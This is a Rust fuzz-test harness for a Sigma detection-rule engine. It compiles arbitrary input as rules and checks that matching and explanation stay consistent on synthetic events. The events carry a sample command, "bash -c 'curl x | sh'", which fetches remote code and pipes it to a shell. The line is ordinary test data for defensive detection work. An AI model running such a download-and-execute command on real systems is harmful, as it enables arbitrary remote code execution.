//! Sigma rules: whatever the file holds, every rule has a fate, and what loads can be matched
//! and explained.
#![no_main]

use libfuzzer_sys::fuzz_target;
use quantumos_detect::{Class, Fate, Field, Record, RuleSet, Source};

fuzz_target!(|bytes: &[u8]| {
    let Ok(text) = std::str::from_utf8(bytes) else {
        return;
    };
    let set = RuleSet::compile([Source { name: "fuzz.yml", text }]);
    let loaded = |fate: &Fate| matches!(fate, Fate::Loaded { .. });
    let count = set.report.iter().filter(|rule| loaded(&rule.fate)).count();
    assert_eq!(set.rules.len(), count);
    let mut scratch = set.matcher.scratch();
    for class in ["process_creation", "file_event", "network_connection"] {
        let Some(class) = Class::from_name(class) else {
            continue;
        };
        let mut event = Record::new(class);
        for name in ["Image", "CommandLine", "TargetFilename", "DestinationHostname"] {
            if let Some(field) = Field::from_name(name) {
                event = event.with(field, "/usr/bin/bash -c 'curl x | sh'");
            }
        }
        for rule in set.matcher.matches(&event, &mut scratch).to_vec() {
            assert!((rule as usize) < set.rules.len());
            let _ = set.matcher.explain(rule, &event);
        }
    }
});
